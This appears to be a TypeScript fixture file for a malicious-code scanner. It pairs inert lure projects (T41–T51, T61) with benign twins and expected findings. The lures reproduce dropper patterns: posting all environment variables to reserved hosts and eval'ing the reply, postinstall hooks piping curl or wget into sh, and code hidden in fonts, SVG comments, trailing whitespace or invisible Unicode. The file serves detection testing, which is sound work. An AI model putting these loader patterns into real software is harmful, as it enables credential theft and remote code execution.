// Inert fixtures: shapes of documented lures (T41–T51, T61), reserved hosts, payloads that do nothing.
import type { TechniqueFixture } from './fixture.ts';
import { obfuscatedLine } from './shapes.ts';

const START = '{"name":"app","scripts":{"start":"node server.js"},"dependencies":{"axios":"1"}}';
const b64 = (text: string): string => Buffer.from(text).toString('base64');
const RPCS = Array.from({ length: 15 }, (_, i) => `  CHAIN_${i}: 'https://rpc-${i}.example/v2',`).join('\n');
const LOAD =
  "const axios = require('axios');\nmodule.exports = async (url) => {\n  const { data } = await axios.get(url);\n  eval(data);\n};\n";
const flag = (i: number, chunk: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 3 2"><!--${chunk}--><rect width="3" height="${i}" fill="#c00"/></svg>`;
const chunk = (i: number): string => b64(`inert filler text number ${i} `.repeat(60));

const fixtures: readonly TechniqueFixture[] = [
  {
    id: 'T41',
    title: 'base64 address in a committed .env',
    lure: {
      files: {
        'package.json': START,
        '.env': `PORT=3000\nAUTH_API=${b64('https://env-auth.invalid/api/identity/7')}\n`,
        'server.js':
          "require('dotenv').config();\nconst axios = require('axios');\naxios.post(atob(process.env.AUTH_API), { ...process.env }).then((r) => new Function('require', r.data)(require));\n",
      },
    },
    expect: { level: 'malicious', file: 'server.js', indicators: ['env-auth.invalid'] },
    twin: {
      files: {
        'package.json': START,
        '.env.example':
          'PORT=3000\nAUTH_API=https://auth.example/api\nPUBLIC_KEY=TUlJQklqQU5CZ2txaGtpRzl3MEJBUUVGQUFPQ0FROEFNSUlCQ2dLQ0FRRUE=\n',
        'server.js':
          "require('dotenv').config();\nconst axios = require('axios');\nconst key = Buffer.from(process.env.PUBLIC_KEY, 'base64').toString();\naxios.post(process.env.AUTH_API, { key }).then((r) => console.log(r.data.token));\n",
      },
      why: 'a key in base64, as is usual',
    },
  },
  {
    id: 'T42',
    title: 'decoy secrets that satisfy the gate',
    lure: {
      files: {
        'package.json': START,
        '.gitignore': 'node_modules\n.env.development\n',
        '.env.local': `MONGO_URI=mongodb://fixture.invalid/db\nAWS_SECRET=fixture-not-real\nDEV_API_REQ=${b64('https://gate.invalid/api')}\n`,
        'server.js':
          "require('dotenv').config({ path: '.env.local' });\nconst axios = require('axios');\naxios.post(Buffer.from(process.env.DEV_API_REQ, 'base64').toString(), { ...process.env }).then((r) => eval(r.data));\n",
      },
    },
    expect: { level: 'malicious', file: '.env.local', tradecraft: ['T41', 'T42'], indicators: ['gate.invalid'] },
    twin: {
      files: {
        'package.json': START,
        '.gitignore': 'node_modules\n.env\n',
        '.env.example': 'MONGO_URI=mongodb://localhost/db\nAWS_SECRET=\n',
        'server.js': "require('dotenv').config();\nconsole.log(Boolean(process.env.MONGO_URI));\n",
      },
      why: 'an example environment file',
    },
  },
  {
    id: 'T43',
    title: 'one address among the constants of fifteen chains',
    lure: {
      files: {
        'package.json': START,
        'constant.js': `module.exports = {\n${RPCS}\n  CHAIN_TEST: 'https://api.npoint.io/00000000000000000003',\n};\n`,
        'load.js': LOAD,
        'server.js': "const { CHAIN_TEST } = require('./constant');\nrequire('./load')(CHAIN_TEST);\n",
      },
    },
    expect: {
      level: 'malicious',
      file: 'load.js',
      tradecraft: ['T26', 'T43', 'T45'],
      via: ['package.json', 'server.js', 'load.js'],
      indicators: ['api.npoint.io/00000000000000000003'],
    },
    twin: {
      files: {
        'package.json': START,
        'constant.js': `module.exports = {\n${RPCS}\n};\n`,
        'server.js':
          "const rpcs = require('./constant');\nconst axios = require('axios');\naxios.post(rpcs.CHAIN_1, { method: 'eth_blockNumber' }).then((r) => console.log(parseInt(r.data.result, 16)));\n",
      },
      why: 'chains only',
    },
  },
  {
    id: 'T44',
    title: 'address split into constants and joined by a template',
    lure: {
      files: {
        'package.json': START,
        'config/constants.js':
          "const domain = 'split-parts.invalid';\nconst subdomain = 'api';\nconst id = 'b/0001';\nmodule.exports = { domain, subdomain, id };\n",
        'server.js':
          "const { domain, subdomain, id } = require('./config/constants');\nconst axios = require('axios');\nconst GET_RPCNODE_URL = `https://${subdomain}.${domain}/${id}`;\naxios.get(GET_RPCNODE_URL).then((r) => {}).catch((err) => eval(err.response.data));\n",
      },
    },
    expect: {
      level: 'malicious',
      file: 'server.js',
      tradecraft: ['T29', 'T44'],
      indicators: ['api.split-parts.invalid/b/0001'],
    },
    twin: {
      files: {
        'package.json': START,
        'config/constants.js': "module.exports = { domain: 'shop.example', subdomain: 'api', version: 'v1' };\n",
        'server.js':
          "const { domain, subdomain, version } = require('./config/constants');\nrequire('axios').get(`https://${subdomain}.${domain}/${version}`).then((r) => console.log(r.status));\n",
      },
      why: 'a base address put together',
    },
  },
  {
    id: 'T45',
    title: 'JSON storage as a dropper',
    lure: {
      files: {
        'package.json': START,
        'server.js':
          "import('axios').then(async ({ default: http }) => {\n  const reply = await http.get('https://jsonkeeper.com/b/YYYY0');\n  await import(`data:text/javascript,${encodeURIComponent(reply.data.model)}`);\n});\n",
      },
    },
    expect: {
      level: 'malicious',
      file: 'server.js',
      tradecraft: ['T45', 'T26'],
      indicators: ['jsonkeeper.com/b/YYYY0'],
    },
    twin: {
      files: {
        'package.json': START,
        'src/api.js':
          "export const products = () => fetch('https://api.npoint.io/00000000000000000004').then((r) => r.json());\n",
        'server.js': "import('./src/api.js').then(async ({ products }) => console.log((await products()).length));\n",
      },
      why: 'a store that serves sample data',
    },
  },
  {
    id: 'T46',
    title: 'stager on a shared host with a gate path',
    lure: {
      files: {
        'package.json': '{"name":"app","scripts":{"postinstall":"node scripts/check.js"}}',
        'scripts/check.js':
          "const https = require('https');\nhttps.get('https://fixture-not-real-ip-check.vercel.app/api/validate?token=0', (r) => { let b = ''; r.on('data', (c) => { b += c; }); r.on('end', () => { try { require('vm').runInNewContext(b, { require }); } catch (e) {} }); });\n",
      },
    },
    expect: {
      level: 'malicious',
      file: 'scripts/check.js',
      tradecraft: ['T46', 'T26'],
      indicators: ['fixture-not-real-ip-check.vercel.app'],
    },
    twin: {
      files: {
        'package.json': START,
        'vercel.json':
          '{"rewrites":[{"source":"/api/(.*)","destination":"https://fixture-not-real.vercel.app/api/$1"}]}',
        'server.js':
          "fetch('https://fixture-not-real.vercel.app/api/products').then((r) => r.json()).then(console.log);\n",
      },
      why: 'a back end deployed there',
    },
  },
  {
    id: 'T47',
    title: 'payload only for requests with the right header and environment',
    lure: {
      files: {
        'package.json': START,
        'server.js':
          "const axios = require('axios');\nasync function getIp() {\n  const reply = await axios.post('https://gated.invalid/api/ip-check', { ...process.env }, { headers: { 'x-secret-header': 'secret', 'x-app-request': 'ip-check' } });\n  if (reply.data.vpnDetected === false) return reply.data.ip;\n  return eval(reply.data);\n}\ngetIp();\n",
      },
    },
    expect: { level: 'malicious', file: 'server.js', indicators: ['gated.invalid'] },
    twin: {
      files: {
        'package.json': START,
        'server.js':
          "const axios = require('axios');\naxios.get('https://ip.example/json', { headers: { 'x-api-key': process.env.IP_KEY } }).then((reply) => console.log(reply.data.ip));\n",
      },
      why: 'a key sent to an address service',
    },
  },
  {
    id: 'T48',
    title: 'short links, one per system',
    lure: {
      files: {
        'package.json': '{"name":"app","scripts":{"postinstall":"node scripts/os.js"}}',
        'scripts/os.js':
          "const { exec } = require('child_process');\nconst link = { darwin: 'curl -sL https://fixture.short.gy/0m | sh', linux: 'wget -qO- https://fixture.short.gy/0l | sh', win32: 'curl -sL https://fixture.short.gy/0w | cmd' }[process.platform];\nexec(link, { windowsHide: true });\n",
      },
    },
    expect: {
      level: 'malicious',
      file: 'scripts/os.js',
      tradecraft: ['T48', 'T01', 'T12'],
      indicators: ['fixture.short.gy/0m'],
    },
    twin: {
      files: {
        'package.json': START,
        'README.md': 'Follow us: https://bit.ly/0000000\n',
        'server.js':
          "const { exec } = require('child_process');\nexec({ darwin: 'open', linux: 'xdg-open', win32: 'start' }[process.platform] + ' http://localhost:3000');\n",
      },
      why: 'a browser opened on each system',
    },
  },
  {
    id: 'T49',
    title: 'chunks in the comments of flags',
    lure: {
      files: {
        'package.json': START,
        ...Object.fromEntries(
          ['AE', 'AF', 'AG', 'AL', 'AM', 'AO'].map((code, i) => [`assets/flags/${code}.svg`, flag(i, chunk(i))]),
        ),
        'server.js': "require('./serverValidation');\n",
        'serverValidation.js':
          "const fs = require('fs');\nconst path = require('path');\nconst dir = path.join(__dirname, 'assets/flags');\nlet all = '';\nfor (const name of fs.readdirSync(dir).sort()) {\n  const match = /<!--(.*?)-->/.exec(fs.readFileSync(path.join(dir, name), 'utf8'));\n  if (match) all += match[1];\n}\nfunction Check(text) {\n  const table = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';\n  let bits = 0, value = 0, out = '';\n  for (const c of text) { const n = table.indexOf(c); if (n < 0) continue; value = (value << 6) | n; bits += 6; if (bits >= 8) { bits -= 8; out += String.fromCharCode((value >> bits) & 255); } }\n  return out;\n}\neval(Check(all));\n",
      },
    },
    expect: {
      level: 'malicious',
      file: 'serverValidation.js',
      via: ['package.json', 'server.js', 'serverValidation.js'],
    },
    twin: {
      files: {
        'package.json': START,
        'server.js': "console.log(require('fs').readFileSync('assets/logo.svg', 'utf8').length);\n",
        ...Object.fromEntries(
          ['AE', 'AF', 'AG', 'AL'].map((code, i) => [
            `assets/flags/${code}.svg`,
            flag(i, ' Generator: Adobe Illustrator 27.0, SVG Export Plug-In . SVG Version: 6.00 Build 0) '),
          ]),
        ),
        'assets/logo.svg': flag(1, ' logo '),
      },
      why: 'comments of drawing programs',
    },
  },
  {
    id: 'T50',
    title: 'script in a font, read and run by a config',
    lure: {
      files: {
        'package.json': '{"name":"app","scripts":{"build":"webpack"}}',
        'webpack.config.js':
          "const fs = require('fs');\nconst vm = require('vm');\nvm.runInThisContext(fs.readFileSync('./src/fonts/Inter-Bold.woff2', 'utf8'));\nmodule.exports = { entry: './src/index.js' };\n",
        'src/fonts/Inter-Bold.woff2': `${' '.repeat(260)}${obfuscatedLine(3_000, 13)}`,
        'src/index.js': '',
      },
    },
    expect: { level: 'malicious', file: 'webpack.config.js', tradecraft: ['T50', 'T05', 'T18'] },
    twin: {
      files: {
        'package.json': '{"name":"app","scripts":{"build":"webpack"}}',
        'webpack.config.js':
          "module.exports = { entry: './src/index.js', module: { rules: [{ test: /\\.woff2?$/, type: 'asset/resource' }] } };\n",
        'src/fonts/Inter-Bold.woff2': new Uint8Array([0x77, 0x4f, 0x46, 0x32, 0, 1, 0, 0, 0, 0, 1, 0]),
        'src/index.js': '',
      },
      why: 'fonts as assets',
    },
  },
  {
    id: 'T51',
    title: 'code behind 233 blanks',
    lure: {
      files: {
        'package.json': START,
        'server.js': `const express = require('express');\nconst app = express();\napp.listen(3000);${' '.repeat(233)}const a = require('axios'); a.get('https://off-screen.invalid/api').then((r) => { new Function('require', r.data)(require); });\n`,
      },
    },
    expect: { level: 'malicious', file: 'server.js', indicators: ['off-screen.invalid'] },
    twin: {
      files: {
        'package.json': START,
        'server.js': `const table = [\n  ['id',${' '.repeat(60)}'name'],\n];\nconst help = 'usage:${' '.repeat(150)}see the manual';\n//${' '.repeat(140)}right-hand remark\nconsole.log(table, help);\n`,
      },
      why: 'alignment in tables, strings and comments',
    },
  },
  {
    id: 'T61',
    title: 'code in invisible characters',
    lure: {
      files: {
        'package.json': START,
        'server.js': `const decode = (s) => [...s].map((c) => c.codePointAt(0) - 0xfe00 + (c.codePointAt(0) >= 0xe0100 ? 0xfe00 - 0xe0100 + 16 : 0));\nconst payload = \`${Array.from('console.log("inert")'.repeat(12), (c) => String.fromCodePoint(0xe0100 + c.charCodeAt(0) - 16)).join('')}\`;\neval(Buffer.from(decode(payload)).toString('utf8'));\n`,
      },
    },
    expect: { level: 'malicious', file: 'server.js' },
    twin: {
      files: {
        'package.json': START,
        'server.js': "const families = ['👨‍👩‍👧‍👦', '❤️', '🏴󠁧󠁢󠁳󠁣󠁴󠁿', '1️⃣'];\nconsole.log(families.join(' '), 'می‌خواهم');\n",
      },
      why: 'emoji and Persian, which use joiners and selectors',
    },
  },
];
export default fixtures;
